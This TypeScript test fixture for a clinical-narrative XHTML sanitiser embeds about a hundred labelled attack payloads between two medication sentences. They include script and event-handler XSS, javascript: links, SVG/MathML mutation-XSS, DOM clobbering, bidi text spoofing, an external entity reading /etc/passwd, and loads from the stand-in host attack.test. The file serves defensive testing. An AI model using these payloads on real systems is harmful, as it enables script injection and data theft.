/**
 * Narratives that want more than to be read. Each stands between two sentences, which must survive.
 * All of them are our own; whatever runs would set `attacked`.
 */

export type Attack = {
  readonly name: string;
  readonly xhtml: string;
  /** A parser takes the rest of the text for a part of the attack: the second sentence is lost. */
  readonly swallows: boolean;
};

export const before = 'Take warfarin at six.';
export const after = 'Stop aspirin today.';

const run = 'globalThis.attacked=1';
const svg = 'http://www.w3.org/2000/svg';

const payloads: readonly (readonly [string, string])[] = [
  ['a script', `<script>${run}</script>`],
  ['a script in another case', `<ScRiPt>${run}</sCrIpT>`],
  ['a script in a script', `<scr<script>ipt>${run}</scr</script>ipt>`],
  ['a script with a source', '<script src="//attack.test/a.js"></script>'],
  ['a script closed at once', '<script src="//attack.test/a.js"/>'],
  ['a module', `<script type="module">${run}</script>`],
  ['a script with a null byte', `<scr\0ipt>${run}</scr\0ipt>`],
  ['a script with a slash for a blank', `<script/x>${run}</script>`],
  ['a script in a namespace', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`],
  ['onerror', `<img src="x" onerror="${run}">`],
  ['onerror without quotes', `<img src=x onerror=${run}>`],
  ['onerror after a slash', `<img/src=x/onerror=${run}>`],
  ['onerror with a line break', `<img src=x\nonerror\n=\n"${run}">`],
  ['onload', `<body onload="${run}">`],
  ['onclick on a paragraph', `<p onclick="${run}" onmouseover="${run}">Tap</p>`],
  ['onfocus with autofocus', `<input autofocus onfocus="${run}">`],
  ['ontoggle', `<details open ontoggle="${run}"><summary>More</summary></details>`],
  ['onbegin', `<svg><animate onbegin="${run}" attributeName="x"/></svg>`],
  ['onanimationstart', `<p style="animation-name:a" onanimationstart="${run}">Moves</p>`],
  ['onpointerenter on a cell', `<table><tr><td onpointerenter="${run}">1</td></tr></table>`],
  ['a javascript link', `<a href="javascript:${run}">Results</a>`],
  ['a javascript link in entities', `<a href="&#106;avascript&colon;${run}">Results</a>`],
  ['a javascript link with a tab', `<a href="java\tscript:${run}">Results</a>`],
  ['a vbscript link', '<a href="vbscript:attack">Results</a>'],
  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">Results</a>'],
  [
    'a link that opens windows',
    '<a href="//attack.test" target="_blank" ping="//attack.test">R</a>',
  ],
  ['a picture', '<img src="//attack.test/seen.gif" alt="seen">'],
  ['a picture with srcset', '<img srcset="//attack.test/a 1x, //attack.test/b 2x">'],
  ['a picture element', '<picture><source srcset="//attack.test/a"><img src="x"></picture>'],
  ['a background', '<table background="//attack.test/a"><tr><td>1</td></tr></table>'],
  ['a style', '<style>body{display:none}@import "//attack.test/a.css";</style>'],
  [
    'a style attribute',
    '<p style="position:fixed;inset:0;background:url(//attack.test/a)">Over</p>',
  ],
  ['a style that hides', '<p style="display:none">Hidden</p>'],
  ['a style sheet', '<link rel="stylesheet" href="//attack.test/a.css">'],
  ['a preload', '<link rel="modulepreload" href="//attack.test/a.js">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=//attack.test">'],
  ['a policy', '<meta http-equiv="Content-Security-Policy" content="img-src *">'],
  ['a base', '<base href="//attack.test/">'],
  ['a form', '<form action="//attack.test"><input name="p"><button>Save</button></form>'],
  ['a button of a form', `<button formaction="javascript:${run}">Save</button>`],
  ['a field over the page', '<textarea autofocus>NHS number</textarea>'],
  ['a choice', '<select><option>Penicillin</option></select>'],
  ['a frame', '<iframe src="//attack.test"></iframe>'],
  ['a frame with a document', `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['an object', '<object data="//attack.test/a.swf"><param name="a" value="b"></object>'],
  ['an embed', '<embed src="//attack.test/a.svg">'],
  ['a frameset', '<frameset><frame src="//attack.test"></frameset>'],
  ['a portal', '<portal src="//attack.test"></portal>'],
  ['a template', `<template><script>${run}</script></template>`],
  [
    'a shadow root',
    `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
  ],
  ['a slot', '<slot name="main"></slot>'],
  ['an element of its own', `<x-attack onclick="${run}">Words</x-attack>`],
  ['another element with is', '<p is="x-attack">Words</p>'],
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`],
  ['noembed', `<noembed><img src=x onerror=${run}></noembed>`],
  ['an SVG that loads', `<svg onload="${run}"></svg>`],
  ['an SVG script', `<svg xmlns="${svg}"><script>${run}</script></svg>`],
  ['an SVG use', '<svg><use href="//attack.test/a.svg#x"/></svg>'],
  ['an SVG link', `<svg><a xlink:href="javascript:${run}"><text>Here</text></a></svg>`],
  ['an SVG link set later', `<svg><a><set attributeName="href" to="javascript:${run}"/></a></svg>`],
  [
    'an SVG foreign object',
    `<svg><foreignObject><iframe srcdoc="${run}"></iframe></foreignObject></svg>`,
  ],
  [
    'an SVG style that closes itself',
    `<svg><style><a id="</style><img src=1 onerror=${run}>"></a></style></svg>`,
  ],
  [
    'an SVG title that becomes HTML',
    `<svg></p><title><a id="</title><img src=1 onerror=${run}>"></a></title></svg>`,
  ],
  ['MathML with a link', `<math><mi xlink:href="javascript:${run}">x</mi></math>`],
  [
    'an annotation with HTML in it',
    `<math><annotation-xml encoding="text/html"><img src=1 onerror=${run}></annotation-xml></math>`,
  ],
  ['a comment', `<!-- <img src=x onerror=${run}> -->`],
  ['a comment that ends early', `<!--> <img src=x onerror=${run}> -->`],
  ['a comment that ends with a bang', `<!-- --!> <img src=x onerror=${run}> -->`],
  ['a conditional comment', `<!--[if IE]><script>${run}</script><![endif]-->`],
  ['CDATA', `<![CDATA[<script>${run}</script>]]>`],
  ['CDATA in SVG', `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`],
  ['a processing instruction', '<?xml-stylesheet href="//attack.test/a.xsl"?>'],
  ['a document type with entities', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'],
  ['escaped markup', `&lt;img src=x onerror=${run}&gt;`],
  ['markup escaped twice', `&amp;lt;script&amp;gt;${run}`],
  ['markup in UTF-7', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
  ['a name that hides one of the page', '<p id="app" name="body">Words</p>'],
  [
    'a form that hides properties',
    '<form id="x"><input name="attributes"><input name="nodeName"></form>',
  ],
  [
    'a form whose parent is hidden',
    '<form><input name="parentNode"><input name="firstChild"></form>',
  ],
  ['pictures named like methods', '<img name="getElementById"><img name="createElement">'],
  ['a class of the app', '<p class="banner__name hidden">Somebody else</p>'],
  ['an identifier that a label leads to', '<label for="app" id="section-allergy">Words</label>'],
  ['roles and states', '<p role="alert" aria-live="assertive" aria-label="Other words">Words</p>'],
  [
    'a contenteditable',
    '<p contenteditable="true" tabindex="1" accesskey="s" draggable="true">Words</p>',
  ],
  ['data of the app', '<p data-patient="1" slot="x" part="y" nonce="z">Words</p>'],
  ['spans of a thousand', '<table><tr><td colspan="99999" rowspan="-1">1</td></tr></table>'],
  [
    'a script as a span',
    `<table><tr><td colspan="1&quot; onclick=&quot;${run}">1</td></tr></table>`,
  ],
  ['letters turned round', '<p>\u202Egnol gm 05\u202C</p>'],
  ['letters turned round by entities', '<p>&#x202E;gnol gm 05</p>'],
  ['a blank nobody sees', '<p>war\u200Bfarin\u2066 \uFEFF</p>'],
  ['a direction', '<bdo dir="rtl">gm 05</bdo>'],
  ['a tag inside a tag', `<<img src=x onerror=${run}>`],
  ['tags that do not match', '</div></div></body></html><table><p></table><b><i></b></i>'],
  ['attributes without an end', `<p title="a'>b<img src=x onerror='${run}'>" >Words</p>`],
  ['attributes twice', `<p colspan="1" colspan="2" onclick="1" ONCLICK="${run}">Words</p>`],
  ['a name of a prototype', '<__proto__>Words</__proto__><constructor>Words</constructor>'],
  ['depth', `${'<div>'.repeat(600)}deep${'</div>'.repeat(600)}`],
  ['depth of formatting', `${'<b><i>'.repeat(300)}deep${'</i></b>'.repeat(300)}`],
  ['depth of tables', `${'<table><tr><td>'.repeat(100)}deep${'</td></tr></table>'.repeat(100)}`],
];

const swallowing: readonly (readonly [string, string])[] = [
  [
    'forms that change their nesting when read again',
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  ],
  [
    'MathML that changes namespace twice',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ],
  ['a script without an end', `<script>${run}`],
  ['a comment without an end', '<!-- '],
  ['a style without an end', '<style>'],
  ['a title without an end', '<title>'],
  ['a field without an end', '<textarea>'],
  ['plaintext', '<plaintext>'],
  ['a frame without an end', '<iframe>'],
  ['a template without an end', '<template>'],
  ['a tag without an end', `<img src=x onerror=${run} `],
];

const between = (payload: string) =>
  `<div xmlns="http://www.w3.org/1999/xhtml"><p>${before}</p>${payload}<p>${after}</p></div>`;

export const attacks: readonly Attack[] = [
  ...payloads.map(([name, payload]) => ({ name, xhtml: between(payload), swallows: false })),
  ...swallowing.map(([name, payload]) => ({ name, xhtml: between(payload), swallows: true })),
];

const plain = new Set([
  ...['p', 'div', 'span', 'br', 'ul', 'ol', 'li', 'table', 'caption', 'thead', 'tbody', 'tfoot'],
  ...['tr', 'th', 'td', 'b', 'strong', 'i', 'em', 'sub', 'sup', 'pre', 'dl', 'dt', 'dd'],
]);

/** What of a tree is no plain structure, in words: empty where all of it is. Needs a DOM. */
export function notPlain(root: Node): readonly string[] {
  const found: string[] = [];
  const open: Node[] = [...root.childNodes];
  for (let node = open.pop(); node; node = open.pop()) {
    open.push(...node.childNodes);
    if (node.nodeType === Node.TEXT_NODE) continue;
    if (!(node instanceof Element)) {
      found.push(node.nodeName);
      continue;
    }
    const isPlain =
      node.namespaceURI === 'http://www.w3.org/1999/xhtml' && plain.has(node.localName);
    if (!isPlain) found.push(node.nodeName);
    for (const { name, value } of node.attributes) {
      const isSpan = /^(?:col|row)span$/.test(name) && /^\d{1,2}$/.test(value);
      const isOurs = name === 'class' && /^narrative__(?:heading|table)$/.test(value);
      if (!isSpan && !isOurs) found.push(`${node.nodeName} ${name}=${value}`);
    }
  }
  return found;
}
